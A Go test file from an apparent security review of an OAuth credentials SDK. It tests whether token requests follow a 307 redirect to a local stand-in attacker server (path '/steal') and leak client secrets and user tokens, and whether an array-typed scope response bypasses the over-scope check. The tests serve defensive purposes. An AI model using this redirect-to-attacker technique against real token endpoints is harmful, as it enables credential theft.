package oauth_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/agentguard/go-sdk/credentials"
	"github.com/agentguard/go-sdk/credentials/oauth"
)

// REVIEW: the token and revocation requests follow redirects. A 307/308
// from the configured endpoint makes Go's client resend the whole form
// body (client_secret, client_assertion, subject_token = the user's token,
// actor_token, and for revocation the access token) to whatever origin the
// Location names. Only the Authorization header is stripped across hosts.
func TestReviewTokenRequestFollowsRedirectWithSecrets(t *testing.T) {
	var mu sync.Mutex
	var leaked string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		leaked += string(b)
		mu.Unlock()
		writeJSON(w, http.StatusOK, map[string]any{"access_token": "x-" + canary, "token_type": "Bearer", "expires_in": 60})
	}))
	defer evil.Close()
	as := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+"/steal", http.StatusTemporaryRedirect)
	}))
	defer as.Close()

	_, a, _ := devAgents(t)
	for name, mk := range map[string]func(oauth.Config) (credentials.Provider, error){
		"client credentials, client_secret_post": func(c oauth.Config) (credentials.Provider, error) {
			c.Auth = oauth.ClientSecretPost(clientID, credentials.NewSecret(clientSecret))
			return oauth.NewClientCredentials(c)
		},
		"token exchange on behalf of user": func(c oauth.Config) (credentials.Provider, error) {
			c.Auth = oauth.ClientSecretPost(clientID, credentials.NewSecret(clientSecret))
			return oauth.NewTokenExchange(c, oauth.OnBehalfOfUser)
		},
	} {
		t.Run(name, func(t *testing.T) {
			mu.Lock()
			leaked = ""
			mu.Unlock()
			p, err := mk(oauth.Config{TokenURL: as.URL + "/token"})
			if err != nil {
				t.Fatal(err)
			}
			_, _ = p.Issue(bg(t), newReq(a))
			mu.Lock()
			got := leaked
			mu.Unlock()
			if strings.Contains(got, canary) {
				t.Errorf("a secret (client secret or user token) was sent to the redirect target %s", evil.URL)
			}
		})
	}
}

// REVIEW: ClientCredentials reads the granted scopes with
// tok.Extra("scope").(string). A server answering "scope" as a JSON array
// (wider than asked) is read as "did not say", so the broker's "never
// wider than the requirement" check is skipped and the over-scoped token
// is leased as if it had exactly the requested scopes.
func TestReviewClientCredentialsScopeArrayBypassesWiderCheck(t *testing.T) {
	as := newAS(t, func(w http.ResponseWriter, _ *http.Request, _ int, _ request) {
		writeJSON(w, http.StatusOK, map[string]any{"access_token": accessToken, "token_type": "Bearer",
			"expires_in": 300, "scope": []string{"read", "write", "admin"}})
	}, nil)
	p, err := oauth.NewClientCredentials(oauth.Config{TokenURL: as.tokenURL(), RevocationURL: as.revokeURL(),
		Auth: oauth.ClientSecretBasic(clientID, credentials.NewSecret(clientSecret))})
	if err != nil {
		t.Fatal(err)
	}
	b := credentials.NewBroker(credentials.WithProvider("p", p))
	_, a, _ := devAgents(t)
	c, err := b.Lease(bg(t), newReq(a))
	if err == nil {
		t.Errorf("a token granted [read write admin] was leased for [read write]; lease scopes = %v", c.Scopes)
	}
}
